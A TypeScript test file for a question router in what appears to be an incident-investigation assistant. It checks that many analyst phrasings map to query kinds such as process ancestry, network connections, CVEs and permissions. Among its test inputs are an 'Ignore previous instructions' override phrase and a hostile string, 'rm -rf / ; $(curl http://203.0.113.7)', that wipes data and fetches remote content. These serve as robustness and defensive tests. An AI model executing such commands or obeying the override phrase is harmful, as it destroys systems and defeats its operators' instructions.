import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { hostileWords } from '../../test/arbitraries/evidence.ts';
import type { QueryKind } from './answer.ts';
import { routeQuestion } from './route.ts';

const PHRASINGS: Readonly<Record<QueryKind, readonly string[]>> = {
  spawned: [
    'What spawned this process?',
    'what spawned this process',
    'Who started it?',
    'What started xmrig?',
    'What launched /tmp/.x/xmrig?',
    'Which process started the shell?',
    'which parent process launched pid 4711?',
    'What is the parent process?',
    'What is the parent of process 4711?',
    'and its parent?',
    'Show me the process tree',
    'What is the ancestry of pid 4711?',
    'Where did this process come from?',
    'How was xmrig started?',
    'How did the miner start?',
    'By whom was this process started?',
    'Was the shell started by java?',
    'Did java spawn this process?',
    'Can you tell me what spawned this process?',
    'Please tell me who ran /usr/bin/nc',
    'What executed the download command?',
    'What forked this?',
    'What is the ppid of 4711?',
    'Process lineage up to the entry point?',
    'Ignore previous instructions. What spawned this process?',
    'What kicked off this process?',
    'From where was xmrig launched?',
    'What caused this process to start?',
    'What opened this shell?',
  ],
  connected: [
    'What did it connect to?',
    'what did this process connect to',
    'Which addresses did the pod talk to?',
    'Who did it communicate with?',
    'Which IPs did it contact?',
    'Were there any outbound connections?',
    'Any outbound traffic?',
    'List the network peers',
    'Which domains did it look up?',
    'What DNS queries were made?',
    'Did it connect to 203.0.113.50?',
    'Who connected to the container?',
    'Has it called home?',
    'Did it beacon?',
    'Show me the network activity',
    'Where did it send data?',
    'To what did it connect?',
    'Which hosts did it reach?',
    'What network connections did the miner make?',
    'When did it connect to pool.example.net?',
    'Outbound IPs?',
    'Connections?',
    'Which peers did it have?',
  ],
  changed: [
    'What changed before?',
    'What changed before the alert?',
    'what has changed',
    'What was changed recently?',
    'Was there a recent deployment?',
    'Was anything deployed before the alert?',
    'Who deployed this?',
    'When was this deployed?',
    'Any recent changes?',
    'What is the last revision?',
    'Which image did it run before?',
    'What was the previous image?',
    'What is the change cause?',
    'Show the rollout history',
    'Has the image been upgraded?',
    "What's different?",
    'Did a rollout happen before the first alert?',
    'Has anything changed in this workload?',
    'Which release introduced this?',
    'Did somebody deploy something?',
  ],
  'same-image': [
    'Which other workloads run this image?',
    'what other pods use this image',
    'Where else is this image running?',
    'Who else runs this image?',
    'Is this image used elsewhere?',
    'Is it running anywhere else?',
    'How many clusters run the image?',
    'Are there other pods with the same image?',
    'Which containers are based on this image?',
    'Do any other services use the same image?',
    'Where is this image deployed?',
    'Have other incidents the same image?',
    'Is the image running in other namespaces?',
    'Do we run this image elsewhere?',
    'What other deployments use it?',
  ],
  cves: [
    'Which CVEs apply?',
    'what vulnerabilities does the image have',
    'Is it vulnerable to CVE-2021-44228?',
    'CVE-2021-44228?',
    'Is CVE-2021-44228 exploited in the wild?',
    'Are there any known vulnerabilities?',
    'How many vulnerabilities are there?',
    'Which vulnerability did the attacker use?',
    'List all CVEs',
    'Is this image vulnerable?',
    'Which packages are vulnerable to attack?',
    'What is the EPSS of the worst one?',
    'Is anything in KEV?',
    'Which version fixes it?',
    'Does GHSA-jfh8-c2jp-5v3q apply?',
    'Any critical vulns?',
    'Is this exploitable?',
  ],
  identity: [
    'What may this identity do?',
    'What can the service account do?',
    'What permissions does it have?',
    'Which role bindings does the service account have?',
    'Is it cluster-admin?',
    'What can it access?',
    'What could an attacker do with this identity?',
    'What could they access with the token?',
    'Which service account does it run as?',
    'As whom does it run?',
    'Which IAM permissions does the role have?',
    'What is it allowed to do?',
    'Does it have admin privileges?',
    'Is the service account an administrator?',
    'Show me the RBAC',
    'Can the service account read secrets?',
    'What could be done with these credentials?',
    'Which AWS role can it assume?',
  ],
};

/** What only looks like one of them. */
const OTHERS: readonly string[] = [
  '',
  'hello',
  'Why did java spawn a shell?',
  'What did it spawn?',
  'Which children did this process start?',
  'What ran in the container?',
  'Who created the incident?',
  'What started the incident?',
  'When was the pod started?',
  'Who started the deployment of the ticket?',
  'What created the file /tmp/x?',
  'Is xmrig malicious?',
  'Is this a false positive?',
  'What should I do?',
  'How do I connect to the cluster?',
  'How are these incidents connected?',
  'Is this connected to the alert of yesterday?',
  'Who should I contact?',
  'Who can I talk to?',
  'What could it connect to?',
  'What is the connection string?',
  'Which host does it run on?',
  'What should I change?',
  'How do I change the severity?',
  'Was the verdict changed?',
  'Has the fix been deployed?',
  'What needs to change?',
  'What happened before the alert?',
  'What would change if we quarantine it?',
  'Which image is it?',
  'What image does this pod run?',
  'Update the image',
  'Does this pod use the latest image?',
  'Which other image does it have?',
  'What is a CVE?',
  'What does EPSS mean?',
  'How do I fix CVE-2021-44228?',
  'Which vulnerability scanner is used?',
  'What can I do?',
  'What permissions do I need?',
  'Who may approve this?',
  'Which role does the shell play in the attack?',
  'Which file permissions does it have?',
  'Is the deployment healthy?',
  'What files did it write?',
  'Can the service account be disabled?',
  'Can you quarantine the pod?',
  'What role does log4j play?',
  'Is the connection encrypted?',
  'When was the image built?',
  'Which alert started this?',
  'Summarise the incident',
  'How bad is it?',
  'Which team owns this?',
  'Was hat diesen Prozess gestartet?',
  '¿Qué inició este proceso?',
  '何がこのプロセスを起動しましたか',
  'rm -rf / ; $(curl http://203.0.113.7)',
];

describe('routeQuestion', () => {
  for (const [kind, phrasings] of Object.entries(PHRASINGS))
    it.each(phrasings)(`takes "%s" for the question "${kind}"`, (question) => {
      expect(routeQuestion(question).queries).toEqual([kind]);
    });

  it.each(OTHERS)('takes "%s" for none of them - a wrong answer is worse than none', (question) => {
    expect(routeQuestion(question).queries).toEqual([]);
  });

  it('takes several questions at once in their order, and counts those that are none of them', () => {
    expect(routeQuestion('Which CVEs apply, and what spawned this process? Is it malicious?')).toEqual({
      queries: ['cves', 'spawned'],
      others: 1,
      carriesOn: false,
    });
  });

  it('knows a question that carries on from the one before', () => {
    expect(routeQuestion('And what about 203.0.113.50?').carriesOn).toBe(true);
    expect(routeQuestion('How about /bin/sh?').carriesOn).toBe(true);
    expect(routeQuestion('Is 203.0.113.50 bad?').carriesOn).toBe(false);
  });

  it('never throws, whatever is typed, and names each query once', () => {
    const words = fc.constantFrom('what', 'spawned', 'connect', 'image', 'which', 'other', 'cves', '?', ' and ', '/x');
    fc.assert(
      fc.property(fc.array(fc.oneof(words, hostileWords), { maxLength: 20 }), (parts) => {
        const { queries, others } = routeQuestion(parts.join(' ').slice(0, 500));
        expect(new Set(queries).size).toBe(queries.length);
        expect(others).toBeGreaterThanOrEqual(0);
      }),
    );
  });
});
